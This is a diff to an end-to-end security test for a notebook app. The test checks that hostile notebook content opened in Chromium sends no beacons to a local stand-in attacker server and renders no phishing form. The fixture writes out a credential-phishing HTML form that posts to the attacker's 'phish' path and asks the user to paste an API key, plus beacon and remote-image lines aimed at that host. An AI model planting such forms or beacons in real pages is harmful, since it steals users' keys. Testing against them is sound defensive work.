@@ -16,6 +16,7 @@ let llm: TestServer;
 let app: { url: string; close(): Promise<void> };
 let browser: Browser;
 let page: Page;
+let errors: string[];
 let attacker: Server;
 let L: string;
 /** What reached the attacker, apart from the notebooks it served. */
@@ -50,7 +51,7 @@ beforeAll(async () => {
   });
   await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
   L = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
-  ({ app, browser, page } = await startBrowserApp());
+  ({ app, browser, page, errors } = await startBrowserApp());
   await page.goto(app.url);
   await addEndpoint(page, { name: 'local', baseURL: llm.url, apiKey: KEY });
 });
@@ -103,15 +104,17 @@ describe('a hostile notebook\'s content in Chromium', () => {
     expect(await banner.isVisible()).toBe(true);
     expect(chatCalls()).toBe(0);
     expect(received).toEqual([]);
+    // The page's CSP refused none of the app's own code or styles (e.g. the code editors' themes).
+    expect(errors.filter((e) => /Content Security Policy/.test(e))).toEqual([]);
   });
 
   it('sends no beacon before trust, and shows no form to type a key into', async () => {
     const form = `<form action="${L}phish" method="post"><p>Session expired: paste your API key</p><input name="key"><button>Continue</button></form>`;
     await openByLink('beacons.md', ['---\ntitle: Beacons\n---\n', 'Before trust.\n', beacons(L), '\n', form, '\n![chart](' + L + 'md-image.png)\n', fence('query', 'x', '1')].join('\n'));
     await page.getByText('Before trust.').waitFor();
-    await page.getByText('remote image not loaded: chart').waitFor();
     await settle();
     expect(received).toEqual([]);
+    await page.getByText('remote image not loaded: chart').waitFor();
     expect(await page.locator('main form, main input[name="key"], main button:has-text("Continue")').count()).toBe(0);
     expect(await page.getByText('Session expired: paste your API key').count()).toBe(1);
   });
